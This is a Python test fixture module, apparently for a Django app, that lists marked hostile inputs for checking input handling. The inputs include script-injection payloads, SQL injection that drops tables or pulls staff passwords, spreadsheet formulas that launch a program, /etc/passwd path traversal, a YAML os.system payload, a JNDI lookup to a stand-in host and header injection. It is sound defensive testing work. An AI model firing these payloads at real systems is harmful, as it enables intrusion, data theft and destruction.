"""Named values that nobody types by mistake. Each text holds `MARK`, so that it is recognised wherever it is shown."""

from urllib.parse import quote_from_bytes
from zlib import crc32

MARK = "Hq7zw"
TAG = MARK.lower()
"""The name of elements and attributes that must never come alive."""

_MARKUP = {
    "element": f"<{TAG} id={TAG}>x</{TAG}>",
    "script": f"<script {TAG}>document.title='{MARK}'</script>",
    "image that fails": f"<img {TAG} src=x onerror=\"document.title='{MARK}'\">",
    "svg that loads": f"<svg {TAG} onload=\"document.title='{MARK}'\"></svg>",
    "end of an attribute": f'"><{TAG} autofocus onfocus=alert(1)>',
    "end of a single quoted attribute": f"'><{TAG} onmouseover=alert(1)>",
    "attribute without brackets": f'" {TAG}=1 onfocus=alert(1) autofocus x="',
    "end of a text area": f"</textarea><{TAG}>",
    "end of a title": f"</title><{TAG}>",
    "end of a script": f"</script><{TAG}>",
    "end of a style": f"</style><{TAG}>",
    "end of an option": f"</option></select><{TAG}>",
    "comment": f"<!--><{TAG}>-->",
    "cdata": f"<![CDATA[<{TAG}>]]>",
    "nested": f"<<{TAG}>script>",
    "frame": f"<iframe {TAG} srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "form that sends elsewhere": f"</form><form {TAG} action=https://elsewhere.example><button>",
    "base": f"<base {TAG} href=https://elsewhere.example/>",
    "refresh": f"<meta {TAG} http-equiv=refresh content='0;url=https://elsewhere.example'>",
    "htmx": f"<div {TAG} hx-get=/now/help/ hx-trigger=load hx-on:load=alert(1)>",
    "math": f"<math><mtext><{TAG}></mtext></math>",
    "template of Django": f"{{{{ 7|add:7 }}}}{{% debug %}} {MARK}",
    "template of others": f"${{7*7}} #{{7*7}} <%= 7*7 %> {MARK}",
    "address that runs": f"javascript:document.title='{MARK}'",
    "address with data": f"data:text/html,<script>document.title='{MARK}'</script>",
    "entities": f"&lt;{TAG}&gt; &amp;amp; &#x3C;{TAG}&#x3E; {MARK}",
    "half an entity": f"&#x3C{TAG}&#x3E {MARK}",
    "utf-7": f"+ADw-{TAG}+AD4- {MARK}",
    "full-width brackets": f"＜{TAG}＞",
    "percent": f"%3C{TAG}%3E %00 %s %(x)s {{0}} {MARK}",
}
_SQL = {
    "quote": f"' OR '1'='1 {MARK}",
    "second statement": f"{MARK}'; DROP TABLE guests_guest; --",
    "union": f"{MARK}' UNION SELECT password FROM accounts_staff --",
    "backslash": f"{MARK}\\' OR 1=1 --",
    "wildcards": f"%_{MARK}[a-z]*?",
    "sleep": f"{MARK}'||pg_sleep(9)||'",
    "comment": f"{MARK}/**/OR/**/1=1#",
    "placeholder": f"{MARK} ? %s :1 $1 @p",
}
_FORMULAS = {
    "equals": f'=HYPERLINK("https://elsewhere.example","{MARK}")',
    "plus": f"+1+1 {MARK}",
    "minus": f"-2+3 {MARK}",
    "at": f"@SUM(1+1) {MARK}",
    "program": f"=cmd|'/c calc'!A0 {MARK}",
    "after a blank": f" =1+1 {MARK}",
    "after a no-break space": f"\u00a0=1+1 {MARK}",
    "after a zero-width space": f"\u200b=1+1 {MARK}",
    "after a quote": f'"=1+1 {MARK}',
    "after a new line": f"x\n=1+1 {MARK}",
    "after a return": f"x\r=1+1 {MARK}",
    "after a tab": f"\t=1+1 {MARK}",
    "full-width": f"\uff1d1+1 {MARK}",
    "separators": f"a,b;c\td|e {MARK}",
    "quotes": f'"a""b",""" {MARK}',
}
_DIRECTIONS = {
    "override": f"\u202e{MARK}\u202c",
    "embedding": f"{MARK}\u202agnp.exe\u202c",
    "isolate": f"\u2066{MARK}\u2069",
    "mark of direction": f"\u200f{MARK}\u200e",
    "arabic letter mark": f"\u061c{MARK}",
    "zero-width space": f"{MARK}\u200bx",
    "zero-width joiner": f"{MARK}\u200d\u200cx",
    "word joiner": f"{MARK}\u2060x",
    "byte order mark": f"\ufeff{MARK}",
    "soft hyphen": f"{MARK}\u00adx",
    "tags": f"{MARK}\U000e0041\U000e0042",
    "interlinear": f"{MARK}\ufff9a\ufffab\ufffb",
    "line separator": f"{MARK}\u2028x\u2029y",
    "variation selectors": f"{MARK}\ufe0f\U000e0100",
    "many marks on one letter": MARK + "a" + "\u0301" * 200,
    "decomposed": f"{MARK} e\u0301\u0323",
    "emoji of a family": f"{MARK} \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "hangul filler": f"{MARK}\u3164",
    "widest letter": f"{MARK}\ufdfd",
}
_BYTES = {
    "NUL": f"{MARK}\x00x",
    "NUL alone": "\x00",
    "control characters": f"{MARK}\x01\x07\x08\x1b[31mx",
    "delete": f"{MARK}\x7f\x85x",
    "lone high surrogate": f"{MARK}\ud800x",
    "lone low surrogate": f"{MARK}\udfffx",
    "surrogates in the wrong order": f"{MARK}\udc00\ud800",
    "not a character": f"{MARK}\ufffe\uffff\U0010ffff",
    "private use": f"{MARK}\ue000\U000f0000",
    "replacement": f"{MARK}\ufffd",
    "returns": f"{MARK}\r\nSet-Cookie: a=b\r\n\r\nx",
}
_LONG = {
    "a million letters": MARK + "x" * 1_000_000,
    "a million of three bytes": MARK + "\u4e00" * 330_000,
    "a million blanks": " " * 999_990 + MARK,
    "a million lines": MARK + "\n" * 1_000_000,
    "a million brackets": MARK + "<" * 1_000_000,
    "a million marks": MARK + "\u0301" * 400_000,
    "256": MARK + "x" * 251,
    "65,536": MARK + "x" * 65_531,
}
_ODD = {
    "nothing": "",
    "blanks": "   \t ",
    "true": "true",
    "null": "null",
    "not a number": "NaN",
    "infinity": "-Infinity",
    "huge number": "9" * 400,
    "huge exponent": "1e400000",
    "beyond 64 bits": "9223372036854775808",
    "below nothing": "-1",
    "digits of another script": "\u0664\u0662",
    "superscript": "\u00b2",
    "hexadecimal": "0x7f",
    "underscores": "1_000",
    "no such day": "2026-02-30",
    "year zero": "0000-00-00",
    "last year there is": "9999-12-31",
    "first year there is": "0001-01-01T00:00",
    "last hour there is": "9999-12-31T23:59",
    "hour 25": "25:61",
    "not an identifier": "00000000-0000-0000-0000-00000000000g",
    "identifier of nobody": "00000000-0000-4000-8000-00000000dead",
    "identifier in braces": "{00000000-0000-4000-8000-00000000dead}",
    "path upwards": "../../../../etc/passwd",
    "path with a NUL": "..%00/etc",
    "list": "[]",
    "object": '{"$ne": null}',
    "yaml": "!!python/object/apply:os.system ['x']",
    "JNDI": "${jndi:ldap://elsewhere.example/a}",
}
_SCRIPTS = {
    "latin": 0x61, "greek": 0x3B1, "cyrillic": 0x431, "armenian": 0x561, "hebrew": 0x5D0, "arabic": 0x628,
    "pashto": 0x67C, "syriac": 0x710, "thaana": 0x780, "nko": 0x7CA, "devanagari": 0x915, "bengali": 0x995,
    "gurmukhi": 0xA15, "gujarati": 0xA95, "oriya": 0xB15, "tamil": 0xB95, "telugu": 0xC15, "kannada": 0xC95,
    "malayalam": 0xD15, "sinhala": 0xD9A, "thai": 0xE01, "lao": 0xE81, "tibetan": 0xF40, "burmese": 0x1000,
    "georgian": 0x10D0, "hangul": 0xAC00, "ethiopic": 0x1208, "cherokee": 0x13A0, "canadian": 0x1401,
    "ogham": 0x1681, "runic": 0x16A0, "khmer": 0x1780, "mongolian": 0x1820, "tifinagh": 0x2D30, "glagolitic": 0x2C30,
    "coptic": 0x2C81, "hiragana": 0x3042, "katakana": 0x30A2, "han": 0x4E00, "yi": 0xA000, "vai": 0xA500,
    "javanese": 0xA984, "gothic": 0x10330, "osmanya": 0x10480, "cuneiform": 0x12000, "adlam": 0x1E922,
}  # fmt: skip

TEXTS: dict[str, str] = {
    f"{family}: {name}": value
    for family, values in {
        "markup": _MARKUP,
        "sql": _SQL,
        "formula": _FORMULAS,
        "direction": _DIRECTIONS,
        "bytes": _BYTES,
        "long": _LONG,
        "odd": _ODD,
        "script": {name: MARK + "".join(map(chr, range(first, first + 3))) for name, first in _SCRIPTS.items()},
    }.items()
    for name, value in values.items()
}
CHOSEN = {name: value for name, value in TEXTS.items() if name.startswith(("odd", "bytes: NUL", "bytes: lone"))} | {
    name: TEXTS[name] for name in ("markup: end of an attribute", "sql: quote", "long: a million letters")
}
"""For fields that take one of a few values, a number, a day: what is no text gets in nowhere else."""

FEW = (
    "markup: image that fails",
    "markup: end of a text area",
    "markup: attribute without brackets",
    "sql: second statement",
    "formula: program",
    "direction: override",
    "direction: decomposed",
    "bytes: NUL",
    "bytes: lone high surrogate",
    "odd: huge number",
    "long: a million letters",
    "script: ethiopic",
)
"""For the ordinary tests: one of each family."""


def some_of(values: dict[str, str], where: str, one_in: int) -> dict[str, str]:
    """One value in so many, others at each place, so that all of them are tried somewhere."""
    turn = crc32(where.encode())
    return {name: value for at, (name, value) in enumerate(values.items(), turn) if at % one_in == 0}


def sent(fields: dict[str, str]) -> bytes:
    """A form as a browser that lies about its text would send it: lone surrogates too."""
    return b"&".join(
        quote_from_bytes(name.encode("utf-8", "surrogatepass")).encode()
        + b"="
        + quote_from_bytes(value.encode("utf-8", "surrogatepass")).encode()
        for name, value in fields.items()
    )


def received(value: str) -> str:
    """The text that Django makes of it."""
    return value.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
